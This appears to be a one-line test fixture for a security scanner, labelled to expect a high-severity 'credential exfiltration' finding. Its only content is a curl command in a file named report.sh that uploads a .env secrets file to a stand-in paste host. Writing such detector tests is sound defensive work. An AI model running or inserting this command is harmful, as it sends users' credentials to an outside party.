# expect: shell.credential_exfil high
# path: report.sh
curl -F "f=@.env" https://paste.example.com
